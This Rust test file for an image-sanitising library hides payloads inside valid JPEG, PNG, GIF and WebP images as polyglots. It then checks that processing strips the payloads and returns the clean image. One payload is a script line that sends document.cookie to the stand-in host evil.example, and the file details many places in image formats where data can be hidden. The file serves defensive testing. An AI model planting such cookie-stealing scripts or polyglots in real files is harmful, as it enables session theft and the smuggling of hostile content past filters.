//! Polyglots: whole files hidden in valid images. An accepted polyglot is stored without the hidden file, with exactly the bytes
//! of the clean image.

use super::{alone, exercise::exercise, fixture, repair::repair};
use image_rules::{Action, Plan, Policy, Processed, inspect, process};

/// A ZIP with one stored file: local header, content, central directory, end record.
fn zip() -> Vec<u8> {
    let content = b"<?php echo 'hidden in a picture'; ?>";
    let size = u32::try_from(content.len()).expect("short").to_le_bytes();
    let entry = [
        &[20, 0, 0, 0, 0, 0, 0, 0, 0x21, 0x58][..],
        &crc32fast::hash(content).to_le_bytes(),
        &size,
        &size,
        &[5, 0, 0, 0],
    ]
    .concat();
    let local = [&b"PK\x03\x04"[..], &entry, b"a.php", content].concat();
    let central = [&b"PK\x01\x02\x14\0"[..], &entry, &[0; 10], &[0; 4], b"a.php"].concat();
    let at = u32::try_from(local.len()).expect("short").to_le_bytes();
    let length = u32::try_from(central.len()).expect("short").to_le_bytes();
    let end = [&b"PK\x05\x06\0\0\0\0\x01\0\x01\0"[..], &length, &at, &[0, 0]].concat();
    [local, central, end].concat()
}

fn payloads() -> [Vec<u8>; 3] {
    let script = b"<script>fetch('//evil.example/?'+document.cookie)</script>";
    let pdf =
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction 2 0 R>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF";
    [zip(), script.to_vec(), pdf.to_vec()]
}

fn found(part: &[u8], bytes: &[u8]) -> bool {
    bytes.windows(part.len()).any(|window| window == part)
}

/// The result of processing, or [`None`] when the bytes are rejected.
pub fn made(bytes: &[u8], policy: &Policy) -> Option<Processed<'static>> {
    let report = inspect(bytes, policy).ok()?;
    let plan = Plan::new(&report, policy).ok()?;
    process(bytes.to_vec(), &plan, &policy.limits).ok()
}

/// Hides every payload in a fixture with `hide`, and processes it unchanged in size and resized. `expected` is whether the
/// polyglot is accepted in its original size.
pub fn hidden(name: &str, expected: bool, hide: impl Fn(&[u8], &[u8]) -> Vec<u8>) {
    let _turn = alone();
    let fixtures = fixture::all();
    let fixture = fixtures.iter().find(|fixture| fixture.name == name).expect("a fixture");
    for payload in payloads() {
        let polyglot = hide(&fixture.bytes, &payload);
        assert!(
            found(&payload, &polyglot) || name.ends_with("gif"),
            "{name}: the payload is missing"
        );
        for max_edge in [2048, 20] {
            let policy = Policy { max_edge, ..Policy::EDGE };
            exercise(&polyglot, &policy).ok();
            let made_of_it = made(&polyglot, &policy);
            if max_edge == 2048 {
                assert_eq!(made_of_it.is_some(), expected, "{name}");
            }
            let Some(made_of_it) = made_of_it else { continue };
            let (first, second) = payload.split_at(payload.len() / 2);
            for part in [first, second, b"PK\x03\x04", b"<script", b"%PDF"] {
                assert!(!found(part, made_of_it.bytes()), "{name}: a part of the payload is left");
            }
            let clean = made(&fixture.bytes, &policy).expect("a sound fixture");
            if made_of_it.action() != Action::Optimise {
                assert_eq!(
                    made_of_it.bytes(),
                    clean.bytes(),
                    "{name}: differs from the clean image"
                );
                assert!(
                    made_of_it.removed().kinds().count() > 0,
                    "{name}: the report names nothing removed"
                );
            }
        }
    }
}

pub fn inserted(bytes: &[u8], at: usize, part: &[u8]) -> Vec<u8> {
    [&bytes[..at], part, &bytes[at..]].concat()
}

pub fn position(bytes: &[u8], part: &[u8]) -> usize {
    bytes.windows(part.len()).position(|window| window == part).expect("it is there")
}

pub fn segment(marker: u8, payload: &[u8]) -> Vec<u8> {
    let length = u16::try_from(payload.len() + 2).expect("short").to_be_bytes();
    [&[0xFF, marker][..], &length, payload].concat()
}

#[test]
fn after_the_last_unit_of_a_scan() {
    for name in
        ["jpeg/baseline-420.jpg", "jpeg/restarts.jpg", "jpeg/progressive.jpg", "jpeg/gray.jpg"]
    {
        hidden(name, true, |clean, payload| inserted(clean, clean.len() - 2, payload));
    }
}

#[test]
fn before_a_restart() {
    hidden("jpeg/restarts.jpg", true, |clean, payload| {
        inserted(clean, position(clean, &[0xFF, 0xD0]), payload)
    });
}

#[test]
fn between_scans() {
    hidden("jpeg/progressive.jpg", true, |clean, payload| {
        let scan = position(clean, &[0xFF, 0xDA]);
        let next = scan + 2 + position(&clean[scan + 2..], &[0xFF, 0xC4]);
        inserted(clean, next, payload)
    });
}

#[test]
fn in_tables_that_no_scan_uses() {
    for name in ["jpeg/baseline-420.jpg", "jpeg/progressive.jpg"] {
        hidden(name, true, |clean, payload| {
            // 16-bit codes, as many as the payload has bytes.
            let mut table = vec![0; 17];
            table[0] = 0x13;
            table[16] = u8::try_from(payload.len()).expect("at most 255 bytes");
            inserted(clean, 2, &segment(0xC4, &[&table, payload].concat()))
        });
        hidden(name, true, |clean, payload| {
            let mut table = [&[0x13], payload].concat();
            table.resize(1 + 128, 0);
            if payload.len() > 128 {
                return inserted(clean, 2, &segment(0xFE, payload));
            }
            inserted(clean, 2, &segment(0xDB, &table))
        });
    }
}

#[test]
fn in_comments_unknown_segments_and_between_segments() {
    for marker in [0xFE, 0xE4, 0xEF, 0xF7] {
        hidden("jpeg/baseline-420.jpg", true, |clean, payload| {
            inserted(clean, 2, &segment(marker, payload))
        });
    }
    let tables = [0xFF, 0xDB];
    hidden("jpeg/baseline-420.jpg", true, |clean, payload| {
        inserted(clean, position(clean, &tables), payload)
    });
}

#[test]
fn after_the_end_of_the_file() {
    for name in ["jpeg/gray.jpg", "png/rgb8.png", "gif/still.gif", "webp/lossless.webp"] {
        hidden(name, true, |clean, payload| [clean, payload].concat());
    }
}

/// The chunks of a PNG: their kind and data.
pub fn chunks(bytes: &[u8]) -> Vec<([u8; 4], Vec<u8>)> {
    let (mut rest, mut out) = (&bytes[8..], Vec::new());
    while let Some((length, after)) = rest.split_first_chunk::<4>() {
        let length = u32::from_be_bytes(*length) as usize;
        out.push((after[..4].try_into().expect("four letters"), after[4..4 + length].to_vec()));
        rest = &after[4 + length + 4..];
    }
    out
}

pub fn png(chunks: &[([u8; 4], Vec<u8>)]) -> Vec<u8> {
    let mut out = b"\x89PNG\r\n\x1a\n".to_vec();
    for (kind, data) in chunks {
        out.extend(u32::try_from(data.len()).expect("short").to_be_bytes());
        out.extend(kind);
        out.extend(data);
        out.extend([0; 4]);
    }
    repair(&mut out);
    out
}

#[test]
fn after_the_zlib_stream() {
    for name in ["png/rgb8.png", "png/adam7.png", "png/palette8-transparent.png", "png/gray1.png"] {
        hidden(name, true, |clean, payload| {
            let mut chunks = chunks(clean);
            let last = chunks.iter_mut().rfind(|(kind, _)| kind == b"IDAT").expect("pixels");
            last.1.extend(payload);
            png(&chunks)
        });
        hidden(name, true, |clean, payload| {
            let mut chunks = chunks(clean);
            let end = chunks.len() - 1;
            chunks.insert(end, (*b"IDAT", payload.to_vec()));
            png(&chunks)
        });
    }
    for kind in [b"IDAT", b"fdAT"] {
        hidden("png/animated.png", true, |clean, payload| {
            let mut chunks = chunks(clean);
            let last = chunks.iter_mut().rfind(|(its, _)| its == kind).expect("pixels");
            last.1.extend(payload);
            png(&chunks)
        });
    }
}

/// zlib without compression.
pub fn stored(raw: &[u8]) -> Vec<u8> {
    let (mut a, mut b) = (1_u32, 0_u32);
    for byte in raw {
        a = (a + u32::from(*byte)) % 65521;
        b = (b + a) % 65521;
    }
    let length = u16::try_from(raw.len()).expect("short");
    let sizes = [length.to_le_bytes(), (!length).to_le_bytes()].concat();
    [&[0x78, 0x01, 1][..], &sizes, raw, &(b << 16 | a).to_be_bytes()].concat()
}

#[test]
fn in_more_rows_than_the_picture_has() {
    hidden("png/gray8.png", false, |clean, payload| {
        let mut chunks = chunks(clean);
        chunks.retain(|(kind, _)| matches!(kind, b"IHDR" | b"IDAT" | b"IEND"));
        let header = &chunks[0].1;
        let (width, height) = (header[3], header[7]);
        let mut raw = vec![0; (usize::from(width) + 1) * usize::from(height)];
        raw.extend(payload);
        let data = chunks.iter_mut().find(|(kind, _)| kind == b"IDAT").expect("pixels");
        data.1 = stored(&raw);
        png(&chunks)
    });
}

#[test]
fn in_unneeded_png_chunks() {
    for kind in [b"tEXt", b"prVt", b"hIST", b"tIME", b"gAMA"] {
        hidden("png/rgb8.png", true, |clean, payload| {
            let mut chunks = chunks(clean);
            chunks.insert(1, (*kind, payload.to_vec()));
            png(&chunks)
        });
    }
}

/// The offset after the last sub-block of the first frame.
fn first_terminator(gif: &[u8]) -> usize {
    let table = |flags: u8| if flags & 0x80 == 0 { 0 } else { 6 << (flags & 7) };
    let mut at = 13 + table(gif[10]);
    loop {
        let is_frame = gif[at] == b',';
        at += if is_frame { 11 + table(gif[at + 9]) } else { 2 };
        while gif[at] != 0 {
            at += 1 + usize::from(gif[at]);
        }
        if is_frame {
            return at;
        }
        at += 1;
    }
}

fn sub_blocks(payload: &[u8]) -> Vec<u8> {
    payload
        .chunks(255)
        .flat_map(|block| [&[u8::try_from(block.len()).expect("at most 255")], block].concat())
        .collect()
}

#[test]
fn after_the_end_code() {
    for name in ["gif/still.gif", "gif/interlaced.gif", "gif/animated.gif"] {
        hidden(name, true, |clean, payload| {
            inserted(clean, first_terminator(clean), &sub_blocks(payload))
        });
    }
}

#[test]
fn in_a_palette_that_no_pixel_uses() {
    hidden("png/rgb8.png", true, |clean, payload| {
        let mut palette = payload.to_vec();
        palette.resize(payload.len().next_multiple_of(3), 0);
        let mut chunks = chunks(clean);
        chunks.insert(1, (*b"PLTE", palette));
        png(&chunks)
    });
}

#[test]
fn in_gif_extensions_and_after_the_last_frame() {
    for label in [0x01, 0xFE, 0x42] {
        hidden("gif/still.gif", true, |clean, payload| {
            let extension = [&[b'!', label][..], &sub_blocks(payload), &[0]].concat();
            inserted(clean, clean.len() - 1, &extension)
        });
    }
    hidden("gif/still.gif", true, |clean, payload| inserted(clean, clean.len() - 1, payload));
}

/// The file with the data of the first chunk of a kind changed, and all sizes corrected.
fn in_chunk(clean: &[u8], kind: [u8; 4], change: impl FnOnce(&mut Vec<u8>)) -> Vec<u8> {
    let at = position(clean, &kind);
    let end = at + 8 + number(&clean[at + 4..at + 8]);
    let mut data = clean[at + 8..end].to_vec();
    change(&mut data);
    let size = u32::try_from(data.len()).expect("short").to_le_bytes();
    data.resize(data.len().next_multiple_of(2), 0);
    let after = &clean[end.next_multiple_of(2)..];
    let mut out = [&clean[..at + 4], &size, &data, after].concat();
    let grown = out.len() - clean.len();
    // The sizes of its containers: the file, and the frame of an animation.
    let frame = clean[..at].windows(4).position(|window| window == b"ANMF");
    for holder in [Some(0), frame].into_iter().flatten() {
        add(&mut out[holder + 4..holder + 8], grown);
    }
    out
}

/// A number in little-endian order.
fn number(field: &[u8]) -> usize {
    field.iter().rev().fold(0, |number, byte| number << 8 | usize::from(*byte))
}

fn add(field: &mut [u8], more: usize) {
    let sum = (number(field) + more).to_le_bytes();
    field.copy_from_slice(&sum[..field.len()]);
}

#[test]
fn after_lossless_pixels_and_alpha() {
    for (name, kind) in [
        ("webp/lossless.webp", *b"VP8L"),
        ("webp/lossless-alpha.webp", *b"VP8L"),
        ("webp/lossy-alpha.webp", *b"ALPH"),
    ] {
        hidden(name, false, |clean, payload| in_chunk(clean, kind, |data| data.extend(payload)));
    }
}

/// The file with the payload after a partition of lossy pixels: the first, or one of the `count` that follow.
fn in_partition(clean: &[u8], at: usize, count: usize, payload: &[u8]) -> Vec<u8> {
    in_chunk(clean, *b"VP8 ", |data| {
        let sizes = 10 + (number(&data[..3]) >> 5);
        let field = |partition: usize| sizes + 3 * partition - 3..sizes + 3 * partition;
        let mut end = sizes;
        if at > 0 {
            end += 3 * (count - 1);
            end += (1..count.min(at + 1)).map(|each| number(&data[field(each)])).sum::<usize>();
        }
        match at {
            // Its size is in the frame tag, above five bits.
            0 => add(&mut data[..3], payload.len() << 5),
            // The last one has the rest.
            last if last == count => end = data.len(),
            _ => add(&mut data[field(at)], payload.len()),
        }
        data.splice(end..end, payload.iter().copied());
    })
}

#[test]
fn after_the_partitions_of_lossy_pixels() {
    for (name, count) in [
        ("webp/lossy.webp", 1),
        ("webp/lossy-alpha.webp", 1),
        ("webp/lossy-large.webp", 1),
        ("webp/lossy-partitions.webp", 8),
        ("webp/animated.webp", 1),
    ] {
        for at in 0..=count {
            hidden(name, false, |clean, payload| {
                // Without the payload the file is valid.
                let padded = in_partition(clean, at, count, &[0; 40]);
                assert!(made(&padded, &Policy::EDGE).is_some(), "{name}: padding");
                in_partition(clean, at, count, payload)
            });
        }
    }
}
